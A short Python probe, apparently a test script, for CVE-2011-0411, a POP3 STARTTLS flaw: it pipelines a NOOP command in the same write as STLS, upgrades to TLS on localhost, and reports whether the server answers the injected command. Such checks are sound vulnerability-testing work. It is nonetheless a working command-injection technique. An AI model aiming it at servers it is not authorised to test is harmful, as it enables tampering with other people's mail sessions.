#!/usr/bin/env python3
"""CVE-2011-0411 probe: send `STLS` and a command in ONE write, then start TLS and see
whether the server executes the command that was pipelined in the clear.

    stls_injection.py --port P --cafile CA

Prints one JSON object: {"stls": STATUS_LINE, "handshake": "ok" | ERROR,
"unprompted": TEXT_RECEIVED_OVER_TLS_BEFORE_ASKING, "capa_after": FIRST_LINE_OF_CAPA_REPLY}.
"""
import argparse
import json
import socket
import ssl


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--cafile", required=True)
    a = ap.parse_args()
    out = {"stls": None, "handshake": None, "unprompted": "", "capa_after": None}
    s = socket.create_connection(("127.0.0.1", a.port), timeout=10)
    f = s.makefile("rb")
    f.readline()  # greeting
    # The injected command rides in the same packet as STLS.
    s.sendall(b"STLS\r\nNOOP\r\n")
    out["stls"] = f.readline().decode("latin-1").rstrip("\r\n")
    ctx = ssl.create_default_context(cafile=a.cafile)
    try:
        t = ctx.wrap_socket(s, server_hostname="localhost")
        out["handshake"] = "ok"
    except (ssl.SSLError, OSError) as e:
        out["handshake"] = str(e)
        print(json.dumps(out))
        return
    # Anything the server says now, unasked, would be the answer to the injected NOOP.
    t.settimeout(1.0)
    try:
        data = t.recv(4096)
        out["unprompted"] = data.decode("latin-1")
    except (socket.timeout, ssl.SSLError, OSError):
        pass
    t.settimeout(10)
    t.sendall(b"CAPA\r\n")
    tf = t.makefile("rb")
    out["capa_after"] = tf.readline().decode("latin-1").rstrip("\r\n")
    print(json.dumps(out))


if __name__ == "__main__":
    main()
